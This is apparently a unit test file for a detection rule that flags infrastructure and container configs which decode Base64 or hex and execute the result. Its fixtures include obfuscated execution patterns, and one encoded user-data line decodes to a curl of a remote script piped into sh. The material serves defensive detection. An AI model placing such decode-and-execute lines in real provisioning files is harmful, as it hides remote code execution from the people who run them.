import rule from '../../../src/engine/rules/decoded-payload-executed';
import { ruleTester } from '../rule-tester';

const id = 'AUP-EXE-002';

ruleTester.run(rule, {
	flagged: [
		{
			name: 'a Base64 blob decoded into bash in user data',
			path: 'main.tf',
			source: `resource "aws_instance" "app" {
  ami           = "ami-0c55b159cbfafe1f0"
  instance_type = "t3.micro"
  user_data     = <<-EOT
    #!/bin/bash
    echo "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo" | base64 -d | bash
  EOT
}
`,
			findings: [{ ruleId: id, line: 5, character: 58, endLine: 5, endCharacter: 74, text: 'base64 -d | bash', message: /^This script \('user_data' of aws_instance\.app\) runs code that is decoded first/ }],
		},
		{
			name: 'python exec of a decoded string in a Kubernetes container',
			path: 'k8s/job.yaml',
			source: `apiVersion: batch/v1
kind: Job
metadata:
  name: warmup
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
        - name: warmup
          image: python:3.12-slim
          command: ["python3", "-c", "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"]
`,
			findings: [{ ruleId: id, line: 11, character: 52, endLine: 11, endCharacter: 73, text: 'exec(base64.b64decode', message: /'command' of Job 'warmup'/ }],
		},
		{
			name: 'eval of a decoded substitution in Compose',
			path: 'docker-compose.yml',
			source: `services:
  agent:
    image: alpine:3.20
    command: sh -c 'eval "$(echo ZWNobyBoaQ== | base64 --decode)"'
`,
			findings: [{ ruleId: id, line: 3, character: 20, endLine: 3, endCharacter: 65, text: 'eval "$(echo ZWNobyBoaQ== | base64 --decode)"' }],
		},
		{
			name: 'PowerShell -EncodedCommand in an ARM custom script extension',
			path: 'azuredeploy.json',
			source: `{
  "$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",
  "contentVersion": "1.0.0.0",
  "resources": [
    {
      "type": "Microsoft.Compute/virtualMachines/extensions",
      "apiVersion": "2023-03-01",
      "name": "win1/setup",
      "properties": {
        "publisher": "Microsoft.Compute",
        "type": "CustomScriptExtension",
        "typeHandlerVersion": "1.10",
        "settings": {
          "commandToExecute": "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AA=="
        }
      }
    }
  ]
}
`,
			findings: [{ ruleId: id, line: 13, character: 81, endLine: 13, endCharacter: 96, text: '-EncodedCommand', message: /'commandToExecute' of Microsoft\.Compute\/virtualMachines\/extensions 'win1\/setup'/ }],
		},
		{
			name: 'hex decoded into sh in a boot script',
			path: 'scripts/boot.sh',
			source: `#!/bin/sh
printf '%s' 6563686f206869 | xxd -r -p | sh
`,
			findings: [{ ruleId: id, line: 1, character: 29, endLine: 1, endCharacter: 43, text: 'xxd -r -p | sh' }],
		},
		{
			name: 'Base64 decoded into sh in a Dockerfile RUN',
			path: 'Dockerfile',
			source: `FROM alpine:3.20
RUN echo ZWNobyBoaQ== | base64 -d | sh
`,
			findings: [{ ruleId: id, line: 1, character: 24, endLine: 1, endCharacter: 38, text: 'base64 -d | sh', message: /'RUN' in this file/ }],
		},
		{
			name: 'iex over FromBase64String in CloudFormation user data',
			path: 'stack.yaml',
			source: `AWSTemplateFormatVersion: '2010-09-09'
Resources:
  Win:
    Type: AWS::EC2::Instance
    Properties:
      ImageId: ami-0c55b159cbfafe1f0
      UserData:
        Fn::Base64: |
          <powershell>
          iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d3JpdGUtaG9zdCBoaQ==')))
          </powershell>
`,
			findings: [{ ruleId: id, line: 9, character: 10, endLine: 9, endCharacter: 74, text: 'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String' }],
		},
	],
	clean: [
		{
			name: 'a certificate and a kubeconfig decoded into files, an archive unpacked, a manifest applied',
			path: 'main.tf',
			source: `resource "aws_instance" "runner" {
  ami           = "ami-0c55b159cbfafe1f0"
  instance_type = "t3.micro"
  user_data     = <<-EOT
    #!/bin/bash
    echo "\${var.ca_cert_b64}" | base64 -d > /etc/ssl/certs/internal-ca.pem
    base64 --decode <<< "\${var.kubeconfig_b64}" > /root/.kube/config
    echo "\${var.bundle_b64}" | base64 -d | tar xz -C /opt/app
    echo "\${var.manifest_b64}" | base64 -d | kubectl apply -f -
    openssl enc -d -aes-256-cbc -pbkdf2 -in /opt/secrets.enc -out /opt/secrets.env -pass file:/root/key
  EOT
}
`,
		},
		{
			name: 'Python that only prints what it decodes, and PowerShell running a script file',
			path: 'docker-compose.yml',
			source: `services:
  check:
    image: python:3.12-slim
    command: ["python3", "-c", "import base64,sys; print(base64.b64decode(sys.argv[1]).decode())", "aGk="]
  win:
    image: mcr.microsoft.com/powershell:7.4-ubuntu-22.04
    command: ["pwsh", "-NoProfile", "-ExecutionPolicy", "Bypass", "-File", "/scripts/setup.ps1"]
    environment:
      NOTE: "never echo X | base64 -d | sh"
`,
		},
	],
});
